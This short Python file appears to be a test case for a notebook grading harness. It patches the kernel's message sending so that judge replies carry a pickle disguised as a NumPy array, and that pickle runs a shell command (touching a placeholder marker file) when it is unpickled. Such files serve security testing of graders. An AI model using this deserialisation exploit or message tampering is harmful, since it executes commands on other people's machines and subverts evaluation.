"""Sends a pickle that runs a command where it is opened, as an array and as bytes.

earns: 4
told: cannot be read
"""


# %% middle
def middle(numbers):
    return 7


kernel = get_ipython().kernel
send_as_before = type(kernel.session).send


import pickle


class Bomb:
    def __reduce__(self):
        return (__import__("os").system, ("touch @CLASS@/@MARK@",))


header = b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (), }"
pickled = header.ljust(127) + b"\n" + pickle.dumps(Bomb())
waiting = [pickled, pickle.dumps(Bomb())]


def send(session, stream, kind, content=None, parent=None, ident=None, **kwargs):
    if kind == "judge_reply":
        content, kwargs["buffers"] = {"value": {"$npy": 0}}, [waiting[0]]
        waiting.reverse()
    return send_as_before(session, stream, kind, content, parent, ident, **kwargs)


type(kernel.session).send = send
